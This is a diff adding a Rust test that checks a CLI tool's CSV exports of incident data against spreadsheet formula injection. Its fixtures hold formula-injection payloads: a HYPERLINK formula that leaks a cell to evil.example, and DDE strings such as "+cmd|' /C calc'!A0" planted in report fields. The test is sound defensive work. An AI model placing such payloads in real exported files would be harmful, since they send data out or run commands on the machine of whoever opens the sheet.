@@ -167,6 +167,114 @@ fn gid_of(path: &Path) -> u32 {
 }
 
 // ---------------------------------------------------------------------------------------------
+// 6. CSV formulas
+
+/// The cells of CSV text (RFC 4180 quoting), row by row.
+fn csv_cells(text: &str) -> Vec<Vec<String>> {
+    let mut rows = vec![Vec::new()];
+    let mut cell = String::new();
+    let mut quoted = false;
+    let mut chars = text.chars().peekable();
+    while let Some(c) = chars.next() {
+        match (c, quoted) {
+            ('"', true) if chars.peek() == Some(&'"') => {
+                cell.push('"');
+                chars.next();
+            }
+            ('"', _) => quoted = !quoted,
+            (',', false) => rows.last_mut().unwrap().push(std::mem::take(&mut cell)),
+            ('\n', false) => {
+                rows.last_mut().unwrap().push(std::mem::take(&mut cell));
+                rows.push(Vec::new());
+            }
+            (c, _) => cell.push(c),
+        }
+    }
+    rows.retain(|r| !r.is_empty());
+    rows
+}
+
+#[test]
+fn every_csv_output_neutralises_formulas() {
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+    let sb = Sandbox::with_hk_text(|t| {
+        t.replacen(
+            "name: \"OSS (Zone C)\"",
+            &format!("name: \"{}\"", formula.replace('"', "\\\"")),
+            1,
+        )
+        .replacen(
+            "owner: \"Alibaba Cloud\"",
+            "owner: \"@SUM(1+1)*cmd|' /C calc'!A0\"",
+            1,
+        )
+        .replacen(
+            "text: \"Optimise the high-availability",
+            "text: \"+cmd|' /C calc'!A0 Optimise the high-availability",
+            1,
+        )
+        .replacen(
+            "title: \"Alibaba Cloud",
+            "title: \"-2+3+cmd|' /C calc'!A0 Alibaba Cloud",
+            1,
+        )
+        .replacen(
+            "scope: \"Zone C block storage.\"",
+            "scope: \"\\tZone C block storage.\"",
+            1,
+        )
+    });
+    let runs: [&[&str]; 6] = [
+        &["list", "--format", "csv"],
+        &["actions", "--format", "csv"],
+        &["timeline", "hk-zone-c", "--format", "csv"],
+        &["impact", "hk-zone-c", "--format", "csv"],
+        &["impact", "hk-zone-c", "--format", "csv", "--windows"],
+        &["impact", "hk-zone-c", "--format", "csv", "--figures"],
+    ];
+    let mut quoted = Vec::new();
+    for args in runs {
+        let out = sb.output(args);
+        assert!(out.status.success(), "{args:?}: {}", stderr(&out));
+        for row in csv_cells(&stdout(&out)) {
+            for cell in row {
+                let plain_number = cell.parse::<f64>().is_ok() && !cell.contains(['e', 'E']);
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']) || plain_number,
+                    "{args:?}: a cell a spreadsheet would run: {cell:?}"
+                );
+                if cell.starts_with('\'') {
+                    quoted.push(cell);
+                }
+            }
+        }
+    }
+    for wanted in [
+        format!("'{formula}"),
+        "'@SUM(1+1)*cmd|' /C calc'!A0".to_string(),
+        "'+cmd|' /C calc'!A0 Optimise the high-availability design of multi-AZ products."
+            .to_string(),
+        "'\tZone C block storage.".to_string(),
+    ] {
+        assert!(quoted.contains(&wanted), "{wanted:?} not in {quoted:#?}");
+    }
+    assert!(
+        quoted.iter().any(|c| c.starts_with("'-2+3+cmd")),
+        "{quoted:#?}"
+    );
+    // Negative minutes stay numbers (the timeline's elapsed column before the start).
+    let out = sb.output(&["timeline", "hk-zone-c", "--format", "csv"]);
+    assert!(
+        csv_cells(&stdout(&out))
+            .iter()
+            .flatten()
+            .any(|c| c == "-21"),
+        "{}",
+        stdout(&out)
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
 // 9. Ids that never wrap
 
 #[test]
